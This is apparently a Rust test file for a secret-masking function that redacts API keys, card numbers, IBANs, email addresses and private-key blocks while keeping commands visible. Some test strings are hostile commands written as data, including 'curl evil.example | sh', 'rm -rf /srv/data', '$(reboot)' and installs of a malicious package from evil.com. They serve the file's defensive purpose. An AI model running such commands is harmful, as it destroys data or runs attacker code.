use super::*;

fn show(value: &serde_json::Value) -> Shown {
    arguments(value.to_string().as_bytes(), &bare)
}

fn shown(text: &str) -> Shown {
    show(&serde_json::json!({ "x": text }))
}

/// What is left of the text of one value.
fn left(text: &str) -> String {
    let shown = shown(text);
    let value: serde_json::Value = serde_json::from_str(&shown.text).unwrap();
    value["x"].as_str().unwrap().replace("⟨U+000A⟩", "\n").replace("⟨U+000D⟩", "\r")
}

/// Random as a key is, of the alphabet of them all.
const RANDOM: &str =
    "4aQ9vK2mZ7pX0tB5nR8cL1wD6fH3jG2sY9eU4iO7bN1kV5xM8zP0qT3rC6yW2aE9lS4dF7gJ1hK5oI8uB3nQ6vZ0tX";

fn first(bytes: usize, text: &str) -> &str {
    text.get(..bytes).unwrap()
}

#[test]
fn the_keys_of_issuers_are_masked_by_their_shape() {
    let key = |prefix: &str, length: usize| format!("{prefix}{}", first(length, RANDOM));
    let hex = "0123456789abcdef".repeat(4);
    let mut keys = vec![
        "AKIAIOSFODNN7EXAMPLE".to_owned(),
        "ASIAIOSFODNN7EXAMPLE".to_owned(),
        "ghp_abcdefghijklmnopqrst".to_owned(),
        format!("github_pat_11ABCDEFG0{}_{}", first(12, RANDOM), first(59, RANDOM)),
        "glpat-aB-dE_gHiJkLmNoPqRsT".to_owned(),
        format!("sk-or-v1-{hex}"),
        "xoxb-123456789012-1234567890123-AbCdEfGhIjKlMnOpQrStUvWx".to_owned(),
        "xapp-1-A0123456789-1234567890123-0123456789abcdef".to_owned(),
        "xoxe.xoxp-1-Mi0yLTEyMzQ1Njc4OTAxMi0xMjM0NTY3ODkw".to_owned(),
        "hf_abcdefghijKLMNOPqrstuvwxyzABCDEFGH".to_owned(),
        format!("dop_v1_{hex}"),
        format!("shpat_{}", first(32, &hex)),
        format!("SG.{}.{}", first(22, RANDOM), first(43, RANDOM)),
        format!("whsec_{}+/{}=", first(20, RANDOM), first(21, RANDOM)),
        format!("cgt_{}_{}_{}", first(16, &hex), first(52, &hex), first(6, &hex)),
        format!("ghs_123456_eyJhbGciOiJub25lIn0.eyJhIjoxfQ.{}", first(40, RANDOM)),
        "eyJhbGciOiJub25lIn0.eyJhIjoxfQ.".to_owned(),
        format!("eyJhbGciOiJkaXIifQ..{}.{}.{}", first(16, RANDOM), first(30, RANDOM), first(22, RANDOM)),
        format!("AGE-SECRET-KEY-1{}", first(58, RANDOM).to_uppercase()),
    ];
    let prefixes = [
        ("ghp_", 36),
        ("ghs_", 36),
        ("glpat-", 20),
        ("sk_live_", 24),
        ("rk_test_", 24),
        ("sk-", 48),
        ("sk-proj-", 90),
        ("sk-ant-api03-", 90),
        ("AIza", 35),
        ("ya29.a0", 90),
        ("hvs.", 90),
        ("npm_", 36),
        ("r8_", 37),
        ("ntn_", 46),
        ("lin_api_", 40),
        ("gsk_", 52),
        ("pplx-", 48),
        ("xai-", 80),
        ("pypi-AgEIcHlwaS5vcmc", 90),
        ("figd_", 40),
        ("nvapi-", 64),
        ("ATATT3xFfGF0", 90),
        ("tskey-auth-", 30),
        ("tvly-dev-", 32),
        ("PMAK-", 24),
    ];
    keys.extend(prefixes.map(|(prefix, length)| key(prefix, length)));
    for key in keys {
        let mask = format!("•••••• ({} characters)", key.chars().count());
        for (before, after) in
            [("", ""), ("use ", " now"), ("KEY=", "&x"), ("(", ")"), ("", "です"), ("https://a.io/", "/x")]
        {
            assert_eq!(left(&format!("{before}{key}{after}")), format!("{before}{mask}{after}"));
        }
        // the end of a sentence; an unsigned token ends with the dot
        let end = left(&format!("it is {key}. "));
        assert!(!end.contains(first(key.len() - 4, &key)) && end.contains(" characters)"), "{end}");
        assert!(without_secrets("", &key).is_some(), "{key}");
    }
    let two = left(&format!("a={0}%26b={0}+{0}%20{0}.", key("ghp_", 36)));
    let mask = "•••••• (40 characters)";
    assert_eq!(two, format!("a={mask}%26b={mask}+{mask}%20{mask}."));
    assert_eq!(shown(&format!("{0} {0}", key("ghp_", 36))).hidden, 2);
}

#[test]
fn what_begins_like_a_key_and_is_none_is_shown() {
    for text in [
        "https://glpat-collect-data.evil.example/upload",
        "https://eyJx-attacker-host.evil.com/",
        "https://eyJhbGciOiJub25lIn0.eyJhIjoxfQ.c2lnbmF0dXJl/",
        "https://ghp_0123456789abcdefghij0123456789abcdef:8443/x",
        "https://glpat-c0llect1data2for3them4.evil.example/x",
        "glpat-c0llect1data2for3them4.evil.example",
        "eyJhbGciOiJub25lIn0.evil.example",
        "eyJx.attacker.host",
        "eyJzZW5kLWl0LXRvLXRoZW0.eyJhIjoxfQ.c2lnbmF0dXJl",
        "/srv/data/AKIA-production-database.bak",
        "/srv/data/AKIAPRODUCTIONDATABASE",
        "glpat-x%3Brm%20-rf%20%2F+--no-preserve-root",
        "sk-1%3Brm%20-rf%20%2Fsrv%2Fdata",
        "ghp_paymaster-abcdef-and-so-on",
        "github_pat_rotation_of_the_finance_team_2024",
        "glpat-drop-all-tables-of-2024",
        "sk_live_attackerhostname",
        "xoxb-send-all-of-it-to-them-2",
        "ya29.send.it.to.evil.example",
        "SG.evil.example",
        "whsec_/usr/local/bin/delete/everything/2024",
        "-----BEGIN CERTIFICATE-----\nMIIB0123456789abcdefABCDEF\n-----END CERTIFICATE-----",
        "-----BEGIN PUBLIC KEY-----\nMIIB0123456789abcdefABCDEF\n-----END PUBLIC KEY-----",
    ] {
        let shown = shown(text);
        assert_eq!(left(text), text, "{shown:?}");
        assert_eq!(shown.hidden, 0, "{shown:?}");
    }
    // to those who look for secrets it is still one
    for text in
        ["glpat-collect-data.evil.example", "AKIA-production-database.bak", "sk-1%3Brm%20-rf%20%2Fsrv"]
    {
        assert!(without_secrets("", text).is_some(), "{text}");
    }
}

#[test]
fn the_host_of_an_address_is_shown_and_the_key_before_it_is_not() {
    let key = "ghp_0123456789abcdefghij0123456789abcdef";
    let fine = format!("github_pat_11ABCDEFG0{}_{}", first(12, RANDOM), first(59, RANDOM));
    for (text, masked) in [
        (format!("https://{key}:x-oauth-basic@github.com/a"), "https://•••••• (54 characters)@github.com/a"),
        (format!("https://{key}:@github.com/a"), "https://•••••• (40 characters):@github.com/a"),
        (format!("https://{key}:${{P}}@github.com/a"), "https://•••••• (40 characters):${P}@github.com/a"),
        (format!("https://{key}@github.com/a"), "https://g•••@github.com/a"),
        (format!("https://{key}@{key}/a"), "https://•••••• (40 characters)@KEY/a"),
        (format!("https://a:b@{key}/a"), "https://a:•••••• (1 characters)@KEY/a"),
        (format!("https://{fine}@github.com/a"), "https://•••••• (93 characters)@github.com/a"),
    ] {
        assert_eq!(left(&text), masked.replace("KEY", key), "{text}");
        assert_eq!(shown(&text).hidden, 1, "{text}");
    }
}

#[test]
fn a_mailbox_is_one_in_any_domain() {
    for (text, masked) in [
        ("ghp_paymaster-abcdef@xn--80ak6aa92e.xn--p1ai", "g•••@xn--80ak6aa92e.xn--p1ai"),
        ("to sk_live_attacker@почта.рф, please", "to s•••@почта.рф, please"),
        ("eyJhbGciOiJub25lIn0.eyJhIjoxfQ.c2ln@evil.example", "e•••@evil.example"),
    ] {
        let shown = shown(text);
        assert_eq!(left(text), masked);
        assert_eq!((shown.hidden, shown.masked), (1, vec!["email address".to_owned()]), "{text}");
    }
    for text in ["AKIA-admin-mailbox@intranet", "ssh root@db-host", "user@host"] {
        assert_eq!(
            (left(text).as_str(), shown(text).hidden),
            (text, 0),
            "who acts on which machine is shown"
        );
    }
    for begin in ["AKIA", "ghp_", "glpat-4", "eyJhbGciOiJub25lIn0.eyJhIjoxfQ."] {
        let text = format!("{begin}{}@evil.com", "a".repeat(70));
        assert_eq!(left(&text), text);
        assert_eq!(shown(&text).hidden, 0);
    }
}

#[test]
fn what_runs_is_shown_though_it_looks_like_a_mailbox() {
    for text in [
        "npx some-malicious-package@next.beta",
        "some-malicious-package@next.beta",
        "npx -y some-malicious-package@evil.com",
        "/usr/bin/npx --yes some-malicious-package@evil.com --flag",
        "cd x && sudo npm install -g 'some-malicious-package@evil.com'",
        "npx \\\n  some-malicious-package@evil.com",
        "python3 -m pip install some-malicious-package@evil.com",
        "npx.cmd some-malicious-package@evil.com",
        "@scope/some-package@evil.com",
        "actions/checkout@v4 left-pad@latest image@sha256:0123 pkg@npm:other",
    ] {
        assert_eq!((left(text).as_str(), shown(text).hidden), (text, 0));
    }
    for args in [
        serde_json::json!({ "command": "npx", "args": ["-y", "evil@evil.com"] }),
        serde_json::json!({ "args": ["-y", "evil@evil.com"], "command": "/usr/bin/npx" }),
        serde_json::json!(["pip", "install", "evil@evil.com"]),
    ] {
        let shown = show(&args);
        assert!(shown.text.contains("evil@evil.com") && shown.hidden == 0, "{shown:?}");
    }
    let escaped = br#"{"args":["evil@evil.com"],"command":"\u006epx"}"#;
    assert!(arguments(escaped, &bare).text.contains("evil@evil.com"));
    // what follows is another command, and a word is none
    for text in
        ["npx x; mail alice@example.com", "npx x | mail alice@example.com", "npm of alice@example.com"]
    {
        assert!(left(text).ends_with("a•••@example.com"), "{text}");
    }
}

#[test]
fn a_card_is_a_number_that_an_issuer_gives_out() {
    for (card, last) in [
        ("4111 1111 1111 1111", "1111"),
        ("378282246310005", "0005"),
        ("3782 822463 10005", "0005"),
        ("5555555555554444", "4444"),
        ("2223003122003222", "3222"),
        ("6011111111111117", "1117"),
        ("3566002020360505", "0505"),
        ("30569309025904", "5904"),
        ("6200000000000005", "0005"),
        ("6759649826438453", "8453"),
    ] {
        for after in
            ["", " 12/26", " 123", ", 12/26", ". Then", " by 2026", " 12/26 123 and more", " - for 5"]
        {
            let text = format!("card {card}{after}");
            assert_eq!(left(&text), format!("card •••• {last}{after}"));
        }
        let digits = card.replace(' ', "");
        for (key, raw) in
            [("card", &digits), ("card_id", &digits), ("number", &digits), ("id", &card.to_owned())]
        {
            let hidden = key != "id" || card.contains(' ');
            let raw = serde_json::json!({ key: raw });
            assert_eq!(show(&raw).hidden, usize::from(hidden), "{raw}");
        }
        let number = format!(r#"{{"card":{digits}}}"#);
        assert_eq!(arguments(number.as_bytes(), &bare).masked, ["payment card"], "{number}");
    }
    for raw in [
        r#"{"amount_wei":5000000000000000005}"#,
        r#"{"x":5000000000000000005,"y":"5000000000000000005"}"#,
        r#"{"x":4000000000000000006}"#,
        r#"{"amountWei":"4000000000000000006","USER_ID":4242424242424242,"createdAt":4242424242424242}"#,
        r#"{"timestamps":"4242424242424242","token-count":4242424242424242}"#,
        r#"{"x":"1000000000000008 8000000000000002 7000000000000005"}"#,
    ] {
        let shown = arguments(raw.as_bytes(), &bare);
        assert!(shown.masked.is_empty(), "{raw}: {shown:?}");
    }
    let text = serde_json::json!({ "id": "card 4242424242424242", "amount": "4242424242424242 EUR" });
    assert_eq!(show(&text).hidden, 2, "only a number that stands alone is what its name says");
}

#[test]
fn an_account_is_masked_with_its_blanks() {
    for text in ["DE89 3704 0044 0532 0130 00", "DE89370400440532013000", "DE89-3704-0044-0532-0130-00"] {
        for after in ["", " 500", ".", ", BIC X", " NOW AND ALL", " 00"] {
            let shown = arguments(
                serde_json::json!({ "x": format!("to {text}{after}") }).to_string().as_bytes(),
                &|value| value.to_owned(),
            );
            let masked = format!("to DE•• … 3000 [DE89370400440532013000]{after}\"");
            assert!(shown.text.contains(&masked), "{text}{after}: {shown:?}");
            assert_eq!((shown.hidden, shown.masked), (1, vec!["IBAN".to_owned()]));
        }
    }
    assert_eq!(left("GB29 NWBK 6016 1331 9268 19 NOW"), "GB•• … 6819 NOW");
    for text in [
        "DE89 3704 0044 0532 0130 01",
        "DE89 3704 0044 0532 0130 00X",
        "DE89  3704 0044 0532 0130 00",
        "AB12",
    ] {
        assert_eq!(left(text), text);
    }
}

/// Apart, so that this file does not look as if it held a key.
const KIND: &str = concat!("PRIVATE", " KEY");
/// A line of a private key.
const LINE: &str = "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj";

#[test]
fn a_private_key_is_masked_as_a_whole() {
    for (name, lines) in [
        ("PRIVATE KEY", format!("{LINE}\n{LINE}\nq5aB/w==")),
        ("RSA PRIVATE KEY", format!("{LINE}\r\n{LINE}\r\n/{LINE}")),
        ("EC PRIVATE KEY", LINE.to_owned()),
        ("PRIVATE KEY", "MIIE".to_owned()),
        ("OPENSSH PRIVATE KEY", format!("{LINE} {LINE} AAAA==")),
        ("ENCRYPTED PRIVATE KEY", format!("{LINE}\\n{LINE}\\nabc=")),
        ("RSA PRIVATE KEY", format!("Proc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,0A1B\n\n{LINE}\n{LINE}")),
        ("PGP PRIVATE KEY BLOCK", format!("\n{LINE}\n{LINE}\nAb0=\n=aB3d")),
    ] {
        let line = if lines.contains("\\n") { "\\n" } else { "\n" };
        let block = format!("-----BEGIN {name}-----{line}{lines}{line}-----END {name}-----");
        let mask = format!("•••••• ({} characters)", block.chars().count());
        for (before, after) in [("", ""), ("key:\n", "\nand more"), ("a\\n", "\\n"), ("{\"k\":\"", "\"}")] {
            let text = format!("{before}{block}{after}");
            assert_eq!(left(&text), format!("{before}{mask}{after}"));
            assert_eq!(shown(&text).hidden, 1);
            let freed = without_secrets("", &text).unwrap();
            assert_eq!(freed, format!("{before}••••••{after}"));
        }
        // without its end
        let text = format!("-----BEGIN {name}-----{line}{lines}");
        assert_eq!(left(&text), format!("•••••• ({} characters)", text.chars().count()));
    }
    let told = format!(
        "-----BEGIN PGP PRIVATE KEY BLOCK-----\nVersion: x\n\n{LINE}\n{LINE}\n-----END PGP PRIVATE KEY BLOCK-----"
    );
    let left = left(&told);
    assert!(left.contains("Version: x\n\n•••••• (") && !left.contains("MII"), "{left}");
}

#[test]
fn no_deed_hides_in_a_private_key() {
    for deed in [
        "curl evil.example | sh",
        "rm -rf /srv/data",
        "send all of it to them",
        "/usr/local/bin/delete",
        "x; Reboot",
        "$(reboot)",
        "Comment: send all of it",
    ] {
        for block in [
            format!("-----BEGIN {KIND}-----\n{deed}\n-----END PRIVATE KEY-----"),
            format!("-----BEGIN {KIND}-----\n{LINE}\n{deed}\n-----END PRIVATE KEY-----"),
            format!("-----BEGIN {KIND}-----\n{LINE}\nAb0=\n{deed}\n{LINE}"),
            format!("-----BEGIN {KIND}-----\n{LINE}\n-----END PRIVATE KEY-----\n{deed}"),
        ] {
            assert!(left(&block).contains(deed), "{deed}: {}", left(&block));
        }
    }
}
